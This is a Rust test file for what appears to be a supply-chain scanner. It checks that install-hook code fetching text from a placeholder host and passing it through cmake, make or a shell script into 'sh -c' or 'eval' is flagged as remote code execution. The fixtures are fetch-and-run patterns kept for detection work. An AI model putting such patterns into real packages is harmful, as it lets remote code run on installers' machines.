use super::*;
use crate::flow::testing::{found, script};
use crate::unpack::text_file;
use customs_model::{SinkKind, SourceKind};

#[test]
fn values_of_a_command_line_are_known_by_their_names() {
    let words = [
        "--CDA=1",
        "-DB:STRING=2",
        "-D",
        "C=3",
        "--other=4",
        "D=5",
        "-DE",
    ];
    let args = words.map(|word| (word.to_owned(), Vec::new()));
    let cmake = Defined::of_cmake(&args, &Rc::from([]));
    let known: Vec<_> = cmake.all().collect();
    assert_eq!(known, [("A", "1"), ("B", "2"), ("C", "3")]);
    let make = Defined::of_make(&args, &Rc::from([]));
    assert_eq!(make.value("D"), Some("5"));
    assert_eq!(make.value("A"), None);
}

/// Whether a hook runs what it fetches, where it starts a line with `text`, which was fetched,
/// beside a file.
fn runs(line: &str, path: &str, content: &str) -> bool {
    let code = format!(
        "const c = require('child_process');\nrequire('https').get('https://a.invalid/b', (r) => {{\n\
         let text = ''; r.on('data', (d) => text += d); r.on('end', () => c.execFileSync({line})) }});\n"
    );
    let mut entries = script(&code);
    entries.push(text_file(&format!("package/{path}"), content));
    let found = found(entries);
    let mut flows = found.flows.iter();
    flows.any(|flow| flow.source == SourceKind::Remote && flow.sink != SinkKind::Network)
}

#[test]
fn rules_of_cmake_get_what_is_handed_to_them_by_a_name() {
    let with = |name: &str, line: &str| {
        let rules = format!("execute_process(COMMAND sh -c ${{{name}}})\n");
        runs(line, "CMakeLists.txt", &rules)
    };
    let line = "'cmake', ['-DGIVEN=' + text, '.']";
    assert!(with("GIVEN", line));
    // One edge changed: another variable, which nobody knows.
    assert!(!with("OTHER", line));
    assert!(!with("GIVEN", "'cmake', ['-DGIVEN=1', '-B' + text, '.']"));
}

#[test]
fn rules_of_make_get_what_is_handed_to_them_by_a_name() {
    let with = |name: &str| {
        let rules = format!("all:\n\tsh -c \"$({name})\"\n");
        runs("'make', ['GIVEN=' + text]", "Makefile", &rules)
    };
    assert!(with("GIVEN"));
    assert!(!with("OTHER"));
}

#[test]
fn a_script_gets_what_it_is_started_with_as_its_arguments() {
    let with = |text: &str| runs("'sh', ['x.sh', text]", "x.sh", text);
    assert!(with("eval \"$1\"\n"));
    assert!(with("eval \"$@\"\n"));
    assert!(!with("eval \"$OTHER\"\n"));
}
